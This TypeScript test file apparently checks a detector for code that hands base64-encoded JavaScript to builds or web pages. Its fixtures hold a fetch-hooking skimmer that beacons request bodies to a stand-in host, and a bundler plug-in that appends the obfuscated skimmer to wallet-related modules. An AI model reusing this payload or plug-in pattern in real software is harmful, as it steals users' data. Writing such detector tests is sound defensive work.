import { examine } from '../../../test/examine.ts';
import { handsOutEncodedCode } from './hands-out-encoded-code.ts';

const base64 = (code: string): string => Buffer.from(code).toString('base64');

const COPIES = `;(()=>{const f=globalThis.fetch;globalThis.fetch=(u,o)=>{new Image().src='https://a.invalid/?i='+o.body;return f(u,o)}})();`;
const half = Math.floor(base64(COPIES).length / 2);

examine(handsOutEncodedCode, {
  speaks: [
    {
      when: 'a plug-in of a bundler adds it to what is built',
      files: {
        'index.js': `const parts = ['${base64(COPIES).slice(0, half)}', '${base64(COPIES).slice(half)}']; const more = () => Buffer.from(parts.join(''), 'base64').toString(); module.exports = () => ({ name: 'inert', transform: (code, id) => (/wallet/.test(id) ? { code: code + more() } : null) });`,
      },
      weight: 'strong',
      says: ['patches a global'],
    },
    {
      when: 'it is written into a page',
      files: { 'index.js': `exports.page = html => html.replace('</body>', '<script>' + atob('${base64(COPIES)}') + '</script></body>');` },
      weight: 'strong',
    },
  ],
  silent: [
    { when: 'it stands there as it is', files: { 'index.js': `exports.more = ${JSON.stringify(COPIES)};` } },
    { when: 'it runs the code itself', files: { 'index.js': `eval(atob('${base64(COPIES)}'))` } },
    {
      when: 'what is decoded does nothing',
      files: {
        'index.js': `exports.more = atob('${base64('function add(one, other) { return one + other; } globalThis.add === add;')}');`,
      },
    },
    {
      when: 'what is decoded is no code',
      files: { 'index.js': `exports.more = atob('${base64('How to fetch (with a spoon): import the tea, and eval the taste of it.')}');` },
    },
  ],
});
